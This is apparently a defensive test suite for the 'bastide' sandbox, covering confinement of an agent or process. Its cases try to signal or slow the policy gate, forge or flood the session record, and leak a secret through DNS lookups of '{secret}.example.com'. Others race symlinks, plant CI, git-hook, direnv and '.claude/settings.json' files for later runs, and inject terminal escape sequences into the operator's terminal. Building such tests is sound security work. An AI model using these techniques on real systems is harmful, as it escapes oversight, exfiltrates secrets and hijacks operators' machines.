"""Control: who decides, records and merges; the operator's terminal; what outlives the session."""

import base64
import os
import signal
import socket
import subprocess
import time

from case import case
from cases.credentials import ancestor, parent
from kernel import call, processes


# The plane's processes

@case("pid-namespace host-uid landlock", user="pid-namespace landlock")
def signal_the_plane(host):
    """May send signals to the plane that holds its policy."""
    os.kill(ancestor("bastided"), 0)
    return "may"


@case("pid-namespace host-uid landlock", user="pid-namespace landlock")
def signal_the_client(host):
    """May send signals to the operator's `bastide`."""
    os.kill(parent(ancestor("bastided")), 0)
    return "may"


@case("user-namespace pid-namespace landlock capabilities", user="pid-namespace landlock")
def signal_the_gate(host):
    """May send signals to the gate, which decides about its connections."""
    plane = ancestor("bastided")
    for pid in processes("bastide-gate"):
        if parent(pid) == plane:
            os.kill(pid, 0)
            return "may"
    raise ProcessLookupError(3, "no gate of ours")


@case("user-namespace pid-namespace capabilities", user="pid-namespace")
def slow_the_gate(host):
    """Slows the gate down."""
    plane = ancestor("bastided")
    for pid in processes("bastide-gate"):
        if parent(pid) == plane:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            return "slowed"
    raise ProcessLookupError(3, "no gate of ours")


@case("pid-namespace landlock", alone=True)
def end_the_first_process(host):
    """Kills the cell's first process, which holds the watcher; in a pid namespace of its own that one is deaf to it."""
    first = 1 if 1 in processes("bastide-cell") else ancestor("bastide-cell")
    os.kill(first, signal.SIGKILL if first == 1 else 0)
    return first != 1 and "may"


# The record and the state

@case("private-root host-uid landlock", user="private-root landlock", host="ledger")
def forge_the_record(host):
    """Writes a line of its own into a session's record."""
    with open(host.path, "a") as file:
        file.write(host.nonce)


@case(host="planted-policy", word="--policy {workspace}/../policies/planted.yaml")
def planted_policy(host):
    """Lies in the workspace as a policy of its own, under every name that could be read."""
    with open(host.secret) as file:
        return file.read()


@case(host="state-file", args="--write {home}/.local/state/bastide", control="--write {home}/.local/other", alone=True,
      silence="E-PLANE-052")
def write_the_named_state(host):
    """Changes the plane's state where the operator named it with `--write`."""
    with open(host.path, "a") as file:
        file.write(host.nonce)


@case(host="state-file", args="--read {home}/.local/state/bastide", control="--read {home}/.local/other", alone=True,
      silence="E-PLANE-052")
def read_the_named_state(host):
    """Reads the plane's state where the operator named it with `--read`."""
    with open(host.path) as file:
        return file.read()


@case(host="state-file", args="--read {home}/.local", control="--read {home}/.local", alone=True)
def read_the_state_above(host):
    """Reads the plane's state where the operator named a directory above it."""
    with open(host.path) as file:
        return file.read()


@case(host="let-in-secret", args="--env {variable}={token} --accept-risk credential-inside", control="", alone=True)
def secret_into_the_record(host):
    """Spreads a secret that was let in over names and arguments, so that the record tells it."""
    word = os.environ.get(host.variable) or host.word
    subprocess.run(["/bin/true", word], check=True)
    try:
        socket.getaddrinfo(f"{word}.example.com", 80)
    except OSError:
        pass
    return "spread"


@case(host="flooded-record", control="", alone=True)
def flood_the_record(host):
    """Asks again and again for what it is refused, to fill the operator's disk with the record of it."""
    for at in range(200 if host.control else 600):
        with socket.create_connection(("proxy.bastide", 3128), 3) as one:
            target = f"n{host.nonce}.example.com:{1000 + at if host.control else 1000}"
            one.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            one.recv(4096)
    return "flooded"


@case(host="stopped-gate", control="", alone=True, silence="RANGE BEGIN")
def hold_the_operator(host):
    """Ends while its gate hangs."""
    time.sleep(4)
    return "ended"


@case(host="planted-link", control="", alone=True)
def link_for_the_next_start(host):
    """Puts links in place of its home's .gitconfig while further sessions start in that home."""
    place, end = os.path.expanduser("~/.gitconfig"), time.monotonic() + 4.5
    while time.monotonic() < end:
        try:
            if host.control:
                os.unlink(place)
                break
            os.unlink(place)
            os.symlink(host.outside, place)
        except FileNotFoundError:
            os.symlink(host.outside, place)
        except FileExistsError:
            pass
    time.sleep(max(0, end - time.monotonic()))
    return "planted"


# Names and views

@case("uts-namespace seccomp capabilities user-namespace", user=None, host="domain-name", alone=True)
def rename_the_host(host):
    """Changes the host's domain name."""
    call("setdomainname", host.nonce.encode(), len(host.nonce))


@case("uts-namespace", host="host-name")
def name_of_the_host(host):
    """Learns the host's name, which says whose machine it is."""
    return os.uname().nodename


@case("cgroup-namespace", user=None)
def place_of_the_cgroup(host):
    """Learns where in the host's tree of cgroups it lies."""
    with open("/proc/self/cgroup") as file:
        places = {line.strip().split(":", 2)[2] for line in file}
    return places != {"/"} and f"{sorted(places)}"


@case("pid-namespace")
def processes_of_the_host(host):
    """Sees what else runs on the host."""
    return bool(processes("bastided")) and "the plane is seen"


@case("network-namespace", host="made-address")
def devices_of_the_host(host):
    """Learns the addresses of the host."""
    with open("/proc/self/net/fib_trie") as file:
        return [line.strip() for line in file if "169." in line]


# The workspace

@case(host="workspace-file", word="--mode live", adversary="A", alone=True)
def write_the_original(host):
    """Changes a file of the workspace, of which only the operator may merge the change."""
    with open(host.path, "w") as file:
        file.write(host.nonce)
    time.sleep(2.5)


def leave(label: str, path: str, story: str) -> None:
    def attempt(host):
        if os.path.dirname(path):
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(f"# {host.nonce}\n")
    attempt.__doc__, attempt.__module__ = f"Leaves {path}, {story}.", __name__
    case(host="applied", word=f"apply:{path}", adversary="A", alone=True, name=f"leave-{label}")(attempt)


leave("envrc", ".envrc", "which direnv runs")
leave("editor-task", ".vscode/tasks.json", "which an editor runs")
leave("pipeline", ".circleci/config.yml", "which the integration service runs with its secrets")
leave("agent-settings", ".claude/settings.json", "which the next agent obeys")
leave("git-hook", ".husky/pre-commit", "which git runs")


@case(host="guarded-directory", word="apply:.husky apply:plain", alone=True)
def link_above_a_guarded_path(host):
    """Makes a plain directory, and a link to it in the place of a guarded one."""
    os.mkdir("plain")
    with open("plain/pre-commit", "w") as file:
        file.write(host.nonce)
    os.symlink("plain", ".husky")


@case(host="guarded-link", word="apply:env.sh", alone=True)
def behind_a_guarded_link(host):
    """Changes a plain file, to which the operator's own guarded link leads."""
    with open("env.sh", "w") as file:
        file.write(host.nonce)


@case(host="repository", args="--mode live", control="--mode live", alone=True)
def repository_in_two_halves(host):
    """Leaves a repository whose configuration lies elsewhere, by commondir, in live mode; git would obey it."""
    names = host.names
    texts = (("bare", "HEAD", "ref: refs/heads/main"), ("bare", "commondir", "../common"), ("common", "objects/x", "x"),
             ("common", "refs/x", "x"), ("common", "config", f"[core]\n\tbare = true\n[range]\n\tnonce = {host.nonce}"))
    for half, path, text in texts:
        first, _, rest = path.partition("/")
        path = f"{half}/{names[first]}/{rest}" if rest else f"{half}/{names[first]}"
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text + "\n")
    time.sleep(2.5)


# The operator's terminal

@case("relayed-stdio", host="session-terminal", alone=True)
def clipboard(host):
    """Puts words into the operator's clipboard by OSC 52."""
    return sent(b"\x1b]52;c;" + base64.b64encode(host.nonce.encode()) + b"\x07")


@case("relayed-stdio", host="session-terminal", alone=True)
def title_report(host):
    """Lets the terminal type its title as if the operator had."""
    return sent(b"\x1b]2;" + host.nonce[:8].encode() + b"\x07\x1b[21t")


@case("relayed-stdio", host="session-terminal", alone=True)
def cursor_report(host):
    """Asks for the cursor's place, which is answered as typed keys."""
    return sent(b"\x1b[6n")


@case("relayed-stdio", host="session-terminal", alone=True)
def setting_report(host):
    """Asks for a setting by DECRQSS, whose answer repeats what was asked."""
    return sent(b"\x1bP$q" + host.nonce[:8].encode() + b"\x1b\\")


@case("relayed-stdio", host="session-terminal", alone=True)
def colour_report(host):
    """Asks for a colour, which is answered as typed keys."""
    return sent(b"\x1b]10;?\x07")


@case("relayed-stdio", host="session-terminal", alone=True)
def device_report(host):
    """Asks what the terminal is."""
    return sent(b"\x1b[c")


@case("relayed-stdio", host="session-terminal", alone=True)
def answer_back(host):
    """Asks for the answerback string by ENQ."""
    return sent(b"\x05")


def sent(sequence: bytes) -> str:
    """Writes to the terminal, and tells the bytes in hexadecimal, which no filter touches."""
    os.write(1, sequence)
    time.sleep(0.3)
    return sequence.hex()
